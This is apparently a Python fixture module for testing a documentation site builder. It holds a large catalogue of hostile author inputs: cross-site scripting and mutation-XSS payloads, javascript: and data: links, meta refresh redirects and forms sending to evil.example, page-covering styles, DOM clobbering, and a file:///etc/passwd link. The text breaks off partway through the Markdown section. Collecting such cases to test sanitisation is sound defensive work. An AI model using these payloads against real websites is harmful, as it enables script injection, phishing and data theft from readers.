# ruff: noqa: E501 (an attack stands on one line, as it is written)
"""What a hostile author might write: bodies, pictures, names and front matter. Data alone; the tests are elsewhere.

Each tries to set ``window.pwned``, to ask :data:`ELSEWHERE` for something, to send a form, to cover the page or to lead
the reader away. Paths are relative to a site's folder, and no two records share one: all can stand in one site. A post
of a record stands at :attr:`Hostile.address`. The build reports most; what it makes of them must be harmless anyhow.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass

ELSEWHERE = "https://evil.example"
RUN = "window.pwned=1"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
LINE = '<path d="M0 0h9" stroke="currentColor"/>'
PIXEL = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"
    b"\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82"
)


@dataclass(frozen=True)
class Hostile:
    """One attack: the files of it, by their paths in a site."""

    name: str
    files: Mapping[str, str | bytes]

    @property
    def address(self) -> str:
        return f"/posts/2021/{self.name}/"


def post(
    name: str, body: str, *, title: str = "Hostile", beside: Mapping[str, str | bytes] = {}, **keys: str
) -> Hostile:
    """Return a post with files *beside* it; *keys* are its front matter."""
    front = "".join(f"{key}: {value}\n" for key, value in {"date": "2021-03-26", **keys}.items())
    folder = f"posts/2021/{name}"
    files = {f"{folder}/{path}": content for path, content in beside.items()}
    return Hostile(name, {f"{folder}/index.md": f"---\n{front}---\n\n# {title}\n\n{body}\n", **files})


# -- HTML ----------------------------------------------------------------------

HTML = {
    # Scripts, however they are spelled.
    "script": f"<script>{RUN}</script>",
    "script-inline": f"Words <script>{RUN}</script> and more.",
    "script-capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-slash": f"<script/x>{RUN}</script/y>",
    "script-space": f"<script >{RUN}</script\t>",
    "script-newline": f"<script\n>{RUN}</script\n>",
    "script-form-feed": f"<div><script\f>{RUN}</script></div>",
    "script-unclosed": f"<script>{RUN}",
    "script-no-angle": f"<div>\n<script src={ELSEWHERE}/a.js",
    "script-src": f"<script src={ELSEWHERE}/a.js></script>",
    "script-module": f"<script type=module>import '{ELSEWHERE}/a.js'</script>",
    "script-importmap": f"<script type=importmap>{{\"imports\":{{\"a\":\"{ELSEWHERE}/a.js\"}}}}</script>",
    "script-speculation": (
        f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{ELSEWHERE}/p"]}}]}}</script>'
    ),
    "script-local": "<script src=/_static/js/x.js></script>",
    "script-nested": f"<scr<script>ipt>{RUN}</script>",
    "script-twice": f"<<script>{RUN}//<</script>",
    "script-in-comment-end": f"<!--><script>{RUN}</script>-->",
    "script-in-comment-dash": f"<!---><script>{RUN}</script>-->",
    "script-in-comment-bang": f"<!-- x --!><script>{RUN}</script> -->",
    "script-in-comment-open": f"<!-- <!-- --><script>{RUN}</script>",
    "script-in-bogus-comment": f"<div><!x ><script>{RUN}</script></div>",
    "script-in-end-comment": f"<div></ x ><script>{RUN}</script></div>",
    "script-in-instruction": f"<?x ><script>{RUN}</script>?>",
    "script-in-cdata": f"<![CDATA[><script>{RUN}</script>]]>",
    "script-in-doctype": f"<!DOCTYPE html ><script>{RUN}</script>",
    "script-in-attribute": f'<div title="</div><script>{RUN}</script>">x</div>',
    "script-in-broken-attribute": f"<div title='a\" onmouseover='><script>{RUN}</script>",
    "script-in-noscript": f'<noscript><p title="</noscript><script>{RUN}</script>"></noscript>',
    "script-in-title": f'<title><a title="</title><script>{RUN}</script>"></title>',
    "script-in-textarea": f'<textarea><a title="</textarea><script>{RUN}</script>"></textarea>',
    "script-in-xmp": f'<xmp><a title="</xmp><script>{RUN}</script>"></xmp>',
    "script-in-iframe": f'<iframe><a title="</iframe><script>{RUN}</script>"></iframe>',
    "script-in-noembed": f'<noembed><a title="</noembed><script>{RUN}</script>"></noembed>',
    "script-in-noframes": f'<noframes><a title="</noframes><script>{RUN}</script>"></noframes>',
    "script-in-style": f'<style><a title="</style><script>{RUN}</script>"></style>',
    "script-in-template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "script-in-select": f"<select><template><script>{RUN}</script></template></select>",
    "script-in-table": f"<table><script>{RUN}</script><tr><td>x</table>",
    "script-over-blocks": f"<script>\n\n{RUN}\n\n</script>",
    "script-in-list": f"- one\n- <script>{RUN}</script>",
    "script-in-quotation": f"> <script>{RUN}</script>",
    "script-in-cell": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "script-in-footnote": f"Words.[^n]\n\n[^n]: <script>{RUN}</script> in a note.",
    "script-in-heading": f"## A <script>{RUN}</script> heading",
    "script-in-definition": f"Term\n: <script>{RUN}</script>",
    "script-in-note": f":::{{note}}\n<script>{RUN}</script>\n:::",
    "script-in-link-text": f"[<script>{RUN}</script>](https://example.org/)",
    "script-in-alt": f"![<script>{RUN}</script>](a.png)",
    "script-raw-directive": f"```{{raw}} html\n<script>{RUN}</script>\n```",
    "script-raw-directive-formats": f"```{{raw}} latex html\n<script>{RUN}</script>\n```",
    "script-raw-rst": f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{RUN}</script>\n```",
    "script-raw-role": (
        f"```{{eval-rst}}\n.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>{RUN}</script>`\n```"
    ),
    "script-raw-class": f"```{{eval-rst}}\n.. raw:: html\n   :class: x\n\n   </div><script>{RUN}</script>\n```",
    "script-raw-substitution": (
        f"```{{eval-rst}}\n.. |x| raw:: html\n\n   <script>{RUN}</script>\n\nWords |x| more.\n```"
    ),
    "script-split": f"<scr\n\nipt>{RUN}</script>",
    "script-entity": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "script-doubly-escaped": f"<p>&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;</p>",
    "script-fullwidth": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    # Handlers.
    "onerror": f"<img src=x alt=x onerror={RUN}>",
    "onerror-capitals": f"<IMG SRC=x alt=x ONERROR={RUN}>",
    "onerror-slash": f"<img/src=x/alt=x/onerror={RUN}>",
    "onerror-quote": f"<img src='x'onerror={RUN} alt=x>",
    "onerror-backtick": f"<img src=`x`onerror={RUN} alt=x>",
    "onerror-newline": f"<img src=x alt=x\nonerror\n=\n'{RUN}'>",
    "onerror-entity": "<img src=x alt=x onerror=window.pwned&equals;1>",
    "onerror-numeric": "<img src=x alt=x onerror=&#119;indow.pwned&#61;1>",
    "onerror-equals": f"<img src=x alt=x =onerror={RUN}>",
    "onerror-duplicate": f'<img src=a alt=x src=x onerror="" onerror={RUN}>',
    "onerror-in-alt": f"<img src=x alt='\" onerror=\"{RUN}'>",
    "onerror-markdown-alt": f'![" onerror="{RUN}](a.png)',
    "onerror-markdown-title": f"![x](a.png '\" onerror=\"{RUN}')",
    "onerror-picture": f"<picture><source srcset=x><img src=x alt=x onerror={RUN}></picture>",
    "onload-svg": f"<svg onload={RUN}></svg>",
    "onload-svg-slash": f"<svg/onload={RUN}//",
    "onload-body": f"<body onload={RUN}>",
    "onload-frameset": f"<frameset onload={RUN}><frame></frameset>",
    "onload-image": f"<image src=x onerror={RUN}>",
    "ontoggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "ontoggle-popover": f"<div popover=auto ontoggle={RUN} id=p>x</div><button popovertarget=p>y</button>",
    "onfocus": f"<input autofocus onfocus={RUN}>",
    "onfocus-tabindex": f"<p tabindex=1 autofocus onfocus={RUN} id=x>x</p>",
    "onfocus-editable": f"<p contenteditable autofocus onfocus={RUN}>x</p>",
    "onanimation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
    "ontransition": f"<b style='transition:color 1s' ontransitionend={RUN}>x</b>",
    "onmedia": f"<video autoplay onerror={RUN}><source src=x onerror={RUN}></video>",
    "onmedia-audio": f"<audio src=x onerror={RUN} onloadstart={RUN}></audio>",
    "onbegin": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></animate></svg>",
    "onscroll": f"<div style='overflow:auto' onscroll={RUN}>x</div>",
    "onbeforematch": f"<p hidden=until-found onbeforematch={RUN}>x</p>",
    "onmarquee": f"<marquee onstart={RUN}>x</marquee>",
    "onunknown": f"<xyz onclick={RUN} onpointerrawupdate={RUN}>x</xyz>",
    "handler-in-end-tag": f"<b>x</b onclick={RUN}>",
    "handler-null": f"<div><img src=x alt=x on\0error={RUN}></div>",
    # Addresses with a script.
    "href-javascript": f"<a href='javascript:{RUN}'>x</a>",
    "href-capitals": f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    "href-tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "href-newline": f"<a href='java\nscript:{RUN}'>x</a>",
    "href-entity-tab": f"<a href='java&Tab;script&colon;{RUN}'>x</a>",
    "href-numeric": f"<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{RUN}'>x</a>",
    "href-control": f"<a href='&#1;javascript:{RUN}'>x</a>",
    "href-space": f"<a href='   javascript:{RUN}'>x</a>",
    "href-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "href-data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "href-data-svg": f"<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">x</a>",
    "href-blob": "<a href='blob:https://evil.example/x'>x</a>",
    "href-view-source": "<a href='view-source:javascript:x'>x</a>",
    "href-filesystem": "<a href='filesystem:https://evil.example/temporary/x'>x</a>",
    "href-file": "<a href='file:///etc/passwd'>x</a>",
    "href-area": f"<map name=m><area shape=default href='javascript:{RUN}'></map><img src=a.png usemap=#m alt=x>",
    "href-base": f"<base href='{ELSEWHERE}/'><a href=x>x</a>",
    "href-base-target": "<base target=_top>",
    "src-javascript": f"<img src='javascript:{RUN}' alt=x>",
    "src-data-svg": f"<img alt=x src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    "src-data-html": f"<img alt=x src='data:text/html,<script>{RUN}</script>'>",
    "cite-javascript": f"<blockquote cite='javascript:{RUN}'>x</blockquote>",
    "action-javascript": f"<form action='javascript:{RUN}'><button>x</button></form>",
    "formaction": f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "object-data": f"<object data='javascript:{RUN}'></object>",
    "embed-src": f"<embed src='javascript:{RUN}'>",
    "iframe-src": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "iframe-data": f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "iframe-local": "<iframe src='/_extra/x.html'></iframe>",
    "isindex": f"<isindex action='javascript:{RUN}' type=image>",
    "applet": f"<applet code=x archive={ELSEWHERE}/x.jar></applet>",
    "param": f"<object><param name=src value={ELSEWHERE}/x.swf></object>",
    "xlink": f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "svg-href": f"<svg><a href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "svg-animate-href": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    "svg-set-href": f"<svg><a><set attributeName=xlink:href to=javascript:{RUN} /><text y=9>x</text></a></svg>",
    "svg-use-data": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></use></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-href": f"<svg><script href={ELSEWHERE}/a.js></script></svg>",
    "svg-script-entity": "<svg><script>window&#46;pwned=1</script></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x alt=x onerror={RUN}></foreignObject></svg>",
    "svg-handler": f"<svg><handler ev:event=load>{RUN}</handler></svg>",
    "math-href": f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    "math-xlink": f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    # Markup that one parser reads otherwise than another.
    "mxss-math-style": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "mxss-math-comment": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror={RUN}>'>",
    "mxss-svg-style": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'></svg>",
    "mxss-svg-title": f"<svg><title><a id='</title><img src=x onerror={RUN}>'></title></svg>",
    "mxss-svg-desc": f"<svg><desc><noscript><a id='</noscript><img src=x onerror={RUN}>'></desc></svg>",
    "mxss-annotation": (
        f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>"
    ),
    "mxss-noscript": f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    "mxss-noembed": f"<noembed><style></noembed><img src=x onerror={RUN}></style>",
    "mxss-textarea": f"<svg><textarea><path id='</textarea><img src=x onerror={RUN}>'></svg>",
    "mxss-select": f"<select><svg><style><a title='</style></svg></select><img src=x onerror={RUN}>'>",
    "mxss-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "mxss-table": f"<table><a><svg><td><style><a title='</style><img src=x onerror={RUN}>'></table>",
    "mxss-nested": f"{'<b>' * 300}<svg><title></b><style><img src=x onerror={RUN}></style>",
    "mxss-cdata": f"<svg><![CDATA[<img src=x onerror={RUN}>]]></svg>",
    "mxss-cdata-comment": f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    "mxss-attribute": f"<p title=\"`<img src=x onerror={RUN}>\">x</p>",
    "mxss-nul": f"<div><s\0cript>{RUN}</s\0cript></div>",
    "mxss-custom": f"<x-y is=x-z><style>/*</style><img src=x onerror={RUN}>*/</style></x-y>",
    "mxss-plaintext": "<plaintext>",
    "mxss-listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "mxss-image": f"<svg><image href=x onerror={RUN}></image></svg>",
    "mxss-br": f"</br><img src=x onerror={RUN}></p>",
    "mxss-ampersand": f"<a href='x&quot onmouseover=&quot{RUN}'>x</a>",
    # What leads a reader away, or takes what is typed.
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "meta-refresh-data": f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "meta-referrer": "<meta name=referrer content=unsafe-url>",
    "meta-rst": f"```{{eval-rst}}\n.. meta::\n   :http-equiv=refresh: 0;url={ELSEWHERE}/\n```",
    "meta-rst-capitals": f"```{{eval-rst}}\n.. meta::\n   :HTTP-EQUIV=Refresh: 0;url={ELSEWHERE}/\n```",
    "meta-rst-csp": "```{eval-rst}\n.. meta::\n   :http-equiv=Set-Cookie: a=b\n```",
    "meta-directive": f"```{{meta}}\n:http-equiv=refresh: 0;url={ELSEWHERE}/\n```",
    "form": f"<form action={ELSEWHERE}/><input name=a value=b autofocus><button>Go on</button></form>",
    "form-image": f"<form action={ELSEWHERE}/><input type=image src={ELSEWHERE}/a.png></form>",
    "form-attribute": f"<form id=f action={ELSEWHERE}/></form><button form=f>Go on</button>",
    "form-search": f"<button form=Site-search formaction={ELSEWHERE}/>Search</button>",
    "form-dangling": f"<form action={ELSEWHERE}/><textarea name=x>",
    "form-dialog": "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "form-command": "<button commandfor=Site-menu command=show-popover>x</button>",
    "target-top": "<a href=/x target=_top>x</a> <a href=/x target=evil>y</a>",
    "link-icon": f"<link rel=icon href={ELSEWHERE}/a.ico>",
    "ping": f"<a href=https://example.org/ ping={ELSEWHERE}/>x</a>",
    "attributionsrc": f"<a href=https://example.org/ attributionsrc={ELSEWHERE}/>x</a>",
    "portal": f"<portal src={ELSEWHERE}/></portal>",
    "fencedframe": f"<fencedframe src={ELSEWHERE}/></fencedframe>",
    # What covers the page, or changes the frame around the text.
    "cover-fixed": "<div style='position:fixed;inset:0;background:red'>x</div>",
    "cover-fixed-link": f"<a href={ELSEWHERE}/ style='position:absolute;inset:0;z-index:9'>x</a>",
    "cover-escaped": "<div style='pos\\69 tion:fixed;inset:0'>x</div>",
    "cover-comment": "<div style='position/**/:/**/fixed;inset:0'>x</div>",
    "cover-important": "<div style='position:fixed!important;top:0'>x</div>",
    "cover-margin": "<div style='margin:-999px;padding:999px;background:red'>x</div>",
    "cover-transform": "<div style='transform:scale(99);background:red'>x</div>",
    "cover-scale": "<div style='scale:99;translate:-50vw -50vh;background:red'>x</div>",
    "cover-zoom": "<div style='zoom:99'>x</div>",
    "cover-shadow": "<div style='box-shadow:0 0 0 9999px red'>x</div>",
    "cover-outline": "<div style='outline:9999px solid red'>x</div>",
    "cover-text-shadow": "<div style='text-shadow:0 -300px 200px red;font-size:900px'>x</div>",
    "cover-indent": "<div style='text-indent:-999px'>x</div>",
    "cover-wide": "<div style='width:9999px;height:900px;background:red'>x</div>",
    "cover-table": "<table width=1999 height=1999 bgcolor=red><tr><td width=1999 nowrap>x</td></tr></table>",
    "cover-video": "<video width=1999 height=1999 controls poster=a.png></video><hr width=1999 size=99>",
    "cover-spacing": "<img src=a.png alt=x hspace=99 vspace=99 border=99 width=1999 align=left>",
    "cover-svg": "<svg width=1999 height=1999 style='overflow:visible'><path d='M-999-999h9999v9999' fill=red /></svg>",
    "cover-svg-visible": "<svg overflow=visible><rect x=-999 y=-999 width=9999 height=9999 fill=red /></svg>",
    "cover-svg-transform": "<svg viewBox='0 0 1 1' overflow=visible><g transform='scale(999)'><text>x</text></g></svg>",
    "cover-svg-itself": "<svg transform='scale(99)' viewBox='0 0 9 9'><rect width=9 height=9 fill=red /></svg>",
    "cover-svg-filter": "<svg filter='url(#f)'><filter id=f x=-999 y=-999 width=9999 height=9999><feFlood flood-color=red /></filter></svg>",
    "cover-math": "<math><mspace width=-999em /><mpadded lspace=-99em voffset=99em width=0><mi mathsize=99em>x</mi></mpadded></math>",
    "cover-grid": "<div style='display:grid;grid-template-columns:9999px;background:red'>x</div>",
    "cover-border-image": f"<div style='border-image:url({ELSEWHERE}/a.png) 1/99px/999px'>x</div>",
    "cover-view-name": "<div style='view-transition-name:x;anchor-name:--x;position-area:all'>x</div>",
    "cover-dialog": "<dialog open style='width:100vw;height:100vh'>x</dialog>",
    "cover-popover": "<div popover=manual id=Site-menu>x</div>",
    "cover-letters": "<p style='font-size:12em;line-height:0'><span style='font-size:12em'>XXXX</span></p>",
    "cover-letters-percent": "<p style='font-size:1200%'><b style='font-size:1200%;line-height:0'>XX</b></p>",
    "cover-letters-font": f"<p style='font: 12em/0 serif'>{'X ' * 40}</p>",
    "cover-letters-old": f"{'<big>' * 40}X{'</big>' * 40}",
    "cover-ruby": "<ruby style='font-size:12em;line-height:0'>x<rt style='font-size:12em'>yyyy</rt></ruby>",
    "cover-raised": f"<p>x{'<sup style=font-size:12em>y<sup>z</sup></sup>' * 12}</p>",
    "cover-raised-deep": f"x{'<sup>' * 90}y{'</sup>' * 90}",
    "cover-padding": "<span style='padding:12em;background:red'>x</span>",
    "cover-padding-deep": f"{'<span style=padding:12em>' * 12}x{'</span>' * 12}",
    "cover-border": "<span style='border:12em solid red'>x</span>",
    "cover-low": "<div style='height:0'><div style='height:125em;background:red'>x</div></div>",
    "cover-low-film": "<div style='height:0'><video style='height:125em;width:100%' controls></video></div>",
    "cover-low-table": "<div style='height:1px'><table style='background:red;height:125em'><tr><td>x</table></div>",
    "cover-float": "Words.\n\n<div style='float:left;height:125em;width:100%;background:red'>x</div>",
    "cover-flex-end": f"<div style='display:flex;justify-content:flex-end'>{'<div style=padding:12em>x</div>' * 8}</div>",
    "cover-flex-center": (
        "<div style='display:flex;justify-content:center;align-items:center;height:1em'>"
        f"{'<div style=padding:12em>x</div>' * 8}</div>"
    ),
    "cover-flex-column": (
        "<div style='height:0;display:flex;align-items:flex-end'><div style='height:125em;background:red'>x</div></div>"
    ),
    "cover-nowrap": f"<p style='white-space:nowrap'>{'words' * 600}</p>",
    "cover-nowrap-right": f"<p dir=rtl style='white-space:nowrap'>{'words' * 600}</p>",
    "cover-vertical": f"<div style='writing-mode:vertical-rl;height:2em'>{'<p>words words</p>' * 60}</div>",
    "cover-columns": f"<div style='column-count:2;height:1em;direction:rtl'>{'<p>words words</p>' * 60}</div>",
    "cover-underline": "<p style='text-decoration:underline 12em red;text-underline-offset:12em'>x</p>",
    "cover-list": f"<ul style='list-style-type:\"{'X' * 90}\"'><li>x</ul>",
    "cover-marks": f"<p>{('x' + chr(0x335) + chr(0x310) + chr(0x301)) * 300}</p>",
    "cover-math-size": "<math mathsize='12em'><mi mathsize='12em'>x</mi><mtext mathsize='1200%'>y</mtext></math>",
    "cover-math-level": "<math><mstyle scriptlevel='-99'><mi>x</mi></mstyle></math>",
    "cover-math-fence": "<math><mo minsize='999em' stretchy=true>(</mo><mo minsize='12em'>|</mo></math>",
    "cover-svg-nested": (
        "<svg viewBox='0 0 9 9'><svg overflow=visible x=-999 y=-999 width=9999 height=9999>"
        "<rect width=9999 height=9999 fill=red /></svg></svg>"
    ),
    "names": "<a name=siteSearch>x</a><a name=pagefind>y</a><p id=DOCUMENTATION_OPTIONS>z</p><a id=currentScript>w</a>",
    "roles": "<div role=main>x</div><div role=dialog aria-modal=true>y</div><div role=banner>w</div>",
    "cover-class-raw": "<div class='mobile-header'>x</div><div class='toc-drawer sidebar-drawer overlay'>y</div>",
    "cover-class-everyday": "<div class=page><div class=main><div class='content more pages'>x</div></div></div>",
    "cover-class-markdown": "{.mobile-header}\nWords.\n\n[words]{.sidebar-drawer}",
    "cover-class-fence": "::::{container} toc-drawer\nWords.\n::::",
    "cover-class-rst": "```{eval-rst}\n.. container:: mobile-header\n\n   Words.\n```",
    "cover-style-rule": "<style>body{display:none}</style>",
    "cover-style-svg": "<svg><style>body{display:none}</style></svg>",
    "cover-unclosed": "<div><table><tr><td>\n\nWords.",
    "cover-closing": "</div></article></main></div></div></body></html>",
    "cover-closing-deep": "- </li></ul></section></div></article>",
    "cover-select": "<select><option>",
    "cover-hidden": "<div hidden>",
    "cover-comment-open": "<!-- never closed",
    "cover-frameset": "<frameset><frame src=x></frameset>",
    "cover-details": "<details><summary>More</summary>",
    "clobber-name": "<img name=querySelector src=a.png alt=x><img name=documentElement src=a.png alt=x>",
    "clobber-id": "<p id=Site-contents>x</p><p id=site-main>y</p>",
    "clobber-form": "<form name=body id=head><input name=append></form>",
    "clobber-markdown": "{#Site-main}\nWords.",
    "spoof-author": f"<a class='u-url p-author h-card' rel='me author' href={ELSEWHERE}/>x</a>",
    "spoof-canonical": f"<link rel=canonical href={ELSEWHERE}/>",
    "spoof-role": "<div role=main>x</div>",
    "spoof-data": f"<svg data-picture='../../x.html'></svg><div data-previews={ELSEWHERE}/a.js>x</div>",
    "spoof-structured": '<script type="application/ld+json">{"@type":"Person"}</script>',
    "spoof-microdata": f"<p itemscope itemtype=https://schema.org/Person><b itemprop=url>{ELSEWHERE}</b></p>",
    # Other hosts.
    "load-img": f"<img src={ELSEWHERE}/a.png alt=x>",
    "load-img-slashes": "<img src=//evil.example/a.png alt=x>",
    "load-img-backslash": "<img src='/\\evil.example/a.png' alt=x>",
    "load-img-backslashes": "<img src='\\\\evil.example/a.png' alt=x>",
    "load-img-tab": "<img src='ht\ttps://evil.example/a.png' alt=x>",
    "load-img-entity": "<img src='https&colon;//evil.example/a.png' alt=x>",
    "load-img-one-slash": "<img src='http:/evil.example/a.png' alt=x>",
    "load-img-no-slash": "<img src='http:evil.example/a.png' alt=x>",
    "load-img-user": "<img src='https://lights.example@evil.example/a.png' alt=x>",
    "load-img-port": "<img src='https://lights.example:444/a.png' alt=x>",
    "load-img-lookalike": "<img src='https://lights.example.evil.example/a.png' alt=x>",
    "load-srcset": f"<img src=a.png alt=x srcset='a.png 1x, {ELSEWHERE}/b.png 2x'>",
    "load-srcset-tight": f"<img src=a.png alt=x srcset='a.png,,{ELSEWHERE}/b.png'>",
    "load-lowsrc": f"<img src=a.png alt=x lowsrc={ELSEWHERE}/a.png dynsrc={ELSEWHERE}/b.png longdesc={ELSEWHERE}/c>",
    "load-source": f"<picture><source srcset={ELSEWHERE}/a.png><img src=a.png alt=x></picture>",
    "load-video": f"<video src={ELSEWHERE}/a.mp4 poster={ELSEWHERE}/a.png controls></video>",
    "load-audio": f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>",
    "load-track": f"<video controls><track default src={ELSEWHERE}/a.vtt></video>",
    "load-background": f"<table background={ELSEWHERE}/a.png><tr><td background={ELSEWHERE}/b.png>x</table>",
    "load-body": f"<body background={ELSEWHERE}/a.png>",
    "load-iframe": f"<iframe src={ELSEWHERE}/></iframe>",
    "load-object": f"<object data={ELSEWHERE}/a.svg></object>",
    "load-embed": f"<embed src={ELSEWHERE}/a.svg>",
    "load-link": f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    "load-preload": f"<link rel=preload as=image imagesrcset='{ELSEWHERE}/a.png 1x'>",
    "load-prefetch": "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "load-manifest": f"<html manifest={ELSEWHERE}/a>",
    "load-input": f"<input type=image src={ELSEWHERE}/a.png>",
    "load-style": f"<p style='background:url({ELSEWHERE}/a.png)'>x</p>",
    "load-style-escaped": "<p style='background:u\\72l(https:\\2f\\2f evil.example/a.png)'>x</p>",
    "load-style-image-set": f"<p style='background:image-set(\"{ELSEWHERE}/a.png\" 1x)'>x</p>",
    "load-style-cross-fade": f"<p style='background:cross-fade(url({ELSEWHERE}/a.png),url(a.png))'>x</p>",
    "load-style-list": f"<ul style='list-style-image:url({ELSEWHERE}/a.png)'><li>x</ul>",
    "load-style-cursor": f"<p style='cursor:url({ELSEWHERE}/a.cur),auto'>x</p>",
    "load-style-content": f"<p style='content:url({ELSEWHERE}/a.png)'>x</p>",
    "load-style-variable": f"<p style='--x:url({ELSEWHERE}/a.png);background:var(--x)'>x</p>",
    "load-style-behaviour": f"<p style='behavior:url({ELSEWHERE}/a.htc);-moz-binding:url({ELSEWHERE}/a.xml)'>x</p>",
    "load-style-expression": f"<p style='width:expression({RUN})'>x</p>",
    "load-style-mask": f"<p style='mask:url({ELSEWHERE}/a.svg#m);clip-path:url({ELSEWHERE}/a.svg#c)'>x</p>",
    "load-style-element": f"<style>@import '{ELSEWHERE}/a.css';</style>",
    "load-style-import": "<style>@\\69mport url(//evil.example/a.css);</style>",
    "load-style-font": f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/a.woff2)}}p{{font-family:x}}</style>",
    "load-svg-image": f"<svg><image href={ELSEWHERE}/a.png width=9 height=9></image></svg>",
    "load-svg-image-xlink": f"<svg><image xlink:href={ELSEWHERE}/a.png width=9 height=9></image></svg>",
    "load-svg-use": f"<svg><use href={ELSEWHERE}/a.svg#x></use></svg>",
    "load-svg-fill": f'<svg><rect width=9 height=9 fill="url({ELSEWHERE}/e#a)"/></svg>',
    "load-svg-mask": f'<svg><rect width=9 height=9 mask="url({ELSEWHERE}/e#a)" clip-path="url({ELSEWHERE}/e#b)"/></svg>',
    "load-svg-marker": f'<svg><path d="M0 0h9" marker-end="url({ELSEWHERE}/e#a)" style="filter:url({ELSEWHERE}/e#f)"/></svg>',
    "load-svg-cursor": f'<svg><rect width=9 height=9 cursor="url({ELSEWHERE}/e.cur), auto"/></svg>',
    "load-svg-feimage": f'<svg><filter id=f><feImage href="{ELSEWHERE}/a.png"/></filter><rect filter="url(#f)"/></svg>',
    "load-svg-set": f'<svg><image width=9 height=9><set attributeName=href to="{ELSEWHERE}/a.png"/></image></svg>',
    "load-svg-animate": f'<svg><rect><animate attributeName=fill values="url({ELSEWHERE}/e#a)" dur=1s /></rect></svg>',
    "load-svg-gradient": f'<svg><linearGradient id=a href="{ELSEWHERE}/e#a"/><rect fill="url(#a)"/></svg>',
    "load-svg-textpath": f'<svg><text><textPath href="{ELSEWHERE}/e#a">x</textPath></text></svg>',
    "load-math": f"<math><mglyph src={ELSEWHERE}/a.png></mglyph></math>",
    "load-html-quote": f"<blockquote cite={ELSEWHERE}/><img src='{ELSEWHERE}/a.png' alt=x></blockquote>",
}  # fmt: skip

# -- Markdown and directives ------------------------------------------------------

MARKDOWN = {
    "md-link": f"[x](javascript:{RUN})",
    "md-link-angle": f"[x](<javascript:{RUN}>)",
    "md-link-entity": f"[x](javascript&colon;{RUN})",
    "md-link-numeric": f"[x](&#106;avascript:{RUN})",
    "md-link-tab": f"[x](java&Tab;script:{RUN})",
    "md-link-newline": f"[x](<java&NewLine;script:{RUN}>)",
    "md-link-percent": f"[x](javascript%3A{RUN})",
    "md-link-external": f"[x](javascript:{RUN}){{.external}}",
    "md-link-external-tab": f"[x](java&Tab;script:{RUN}){{.external}}",
    "md-link-control": f"[x](<&#1;javascript:{RUN}>)",
    "md-link-data": f"[x](data:text/html,<script>{RUN}</script>)",
    "md-link-data-base64": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "md-link-data-svg": "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
    "md-link-data-png": "[x](data:image/png;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[x](vbscript:msgbox)",
    "md-link-blob": f"[x](blob:{ELSEWHERE}/x)",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-view-source": "[x](view-source:https://evil.example/)",
    "md-link-title": f"[x](https://example.org/ '\" onclick=\"{RUN}')",
